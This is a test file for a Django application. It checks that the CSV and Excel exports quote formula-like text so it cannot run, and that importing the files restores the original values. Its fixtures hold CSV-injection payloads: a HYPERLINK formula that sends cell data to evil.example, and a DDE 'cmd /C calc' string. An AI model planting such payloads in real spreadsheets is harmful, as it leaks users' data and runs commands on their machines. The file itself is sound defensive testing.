"""Every CSV and Excel file the product writes shows formula-like text as text."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from commissioning.core.spreadsheets import neutralise, restore
from commissioning.partnership import exchange
from commissioning.partnership.models import Body, Contribution
from commissioning.partnership.tests.governance_factories import (
    AgreementFactory,
    BodyFactory,
    PostFactory,
)
from commissioning.programmes import services
from commissioning.programmes.tests.factories import (
    ActionFactory,
    ActionOwnerFactory,
    OrganisationFactory,
    ProgrammeFactory,
    ProgressUpdateFactory,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
RUNS = re.compile(r"[=+\-@\t\r]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("Agree the budget", "Agree the budget"),
        ("a=b", "a=b"),
        ("", ""),
        ("-250", "-250"),  # a plain number is a number
        ("line\x0bbreak", "line\nbreak"),  # Word's manual line break, which no workbook holds
        ("=bell\x07", "'=bell"),
        ("+3.5", "+3.5"),
        (12, 12),
        (None, None),
        (date(2010, 6, 1), date(2010, 6, 1)),
    ],
)
def test_neutralise_quotes_only_what_a_spreadsheet_would_run(value, written):
    assert neutralise(value) == written


@pytest.mark.parametrize("value", [*HOSTILE, "plain", "'quoted", "-250"])
def test_restore_undoes_neutralise(value):
    assert restore(neutralise(value)) == value


def would_run(cell: str) -> bool:
    """Whether a spreadsheet would read the cell as a formula (a plain number is a number)."""
    return bool(RUNS.match(cell)) and not NUMBER.fullmatch(cell)


def assert_inert_csv(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not would_run(cell), cell
    return rows


def assert_inert_xlsx(content: bytes) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not would_run(cell.value), (sheet.title, cell.coordinate)
                    values.append(cell.value)
    return values


@pytest.fixture
def hostile_programme(db):
    programme = ProgrammeFactory(slug="hostile")
    for number, text in enumerate(HOSTILE):
        action = ActionFactory(programme=programme, title=text, ref=f"{number}")
        ActionOwnerFactory(action=action, person=None, name=text, kind="organisation")
        ProgressUpdateFactory(action=action, text=text)
    return programme


def test_the_action_plan_csv_quotes_formulas(signed_in_client, hostile_programme):
    response = signed_in_client.get(reverse("programme-actions-csv", args=["hostile"]))

    content = b"".join(response.streaming_content)
    rows = assert_inert_csv(content)
    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]


def test_history_csvs_quote_formulas(signed_in_client, hostile_programme, manager):
    action = hostile_programme.actions.get(ref="0")
    services.update_action(
        action=action, author=manager, title="@changed", ref="0", timescale_text="", section=""
    )

    for url in [
        reverse("action-history-csv", args=[action.pk]),
        reverse("programme-history-csv", args=["hostile"]),
    ]:
        response = signed_in_client.get(url)
        content = b"".join(response.streaming_content)
        text = content.decode("utf-8-sig")
        assert "'@changed" in text and "'" + FORMULA.replace('"', '""') in text
        assert_inert_csv(content)


def test_the_highlight_report_workbook_holds_no_formula(signed_in_client, hostile_programme):
    response = signed_in_client.get(
        reverse("programme-highlight-report", args=["hostile"]),
        {"as_of": "2030-03-31", "format": "xlsx"},
    )

    assert response.status_code == 200
    values = assert_inert_xlsx(response.content)
    assert "'" + FORMULA in values


@pytest.fixture
def hostile_governance(db):
    organisation = OrganisationFactory(name="@Council")
    body = BodyFactory(name=FORMULA, organisation=organisation, description="-1+1")
    PostFactory(body=body, title="+Director", remit="=1+1")
    agreement = AgreementFactory(title="@pooled budget", partnership=body.partnership)
    agreement.parties.add(organisation)
    Contribution.objects.create(
        agreement=agreement,
        organisation=organisation,
        financial_year="2010/11",
        amount=Decimal("250.00"),
    )
    return body


@pytest.mark.parametrize("what", list(exchange.COLUMNS))
def test_governance_exports_quote_formulas_and_read_back_as_written(
    signed_in_client, hostile_governance, what
):
    before = exchange.export_rows(what)
    csv_content = signed_in_client.get(reverse("governance-export", args=[what, "csv"])).content
    xlsx_content = signed_in_client.get(reverse("governance-export", args=[what, "xlsx"])).content

    csv_rows = assert_inert_csv(csv_content)
    assert_inert_xlsx(xlsx_content)
    assert any(cell.startswith("'") for row in csv_rows[1:] for cell in row)
    for name, content in [(f"{what}.csv", csv_content), (f"{what}.xlsx", xlsx_content)]:
        result = exchange.import_file(
            what=what, name=name, content=content, partnership=hostile_governance.partnership
        )
        assert result.ok, result.errors
        assert exchange.export_rows(what) == before
    assert Body.objects.get().name == FORMULA
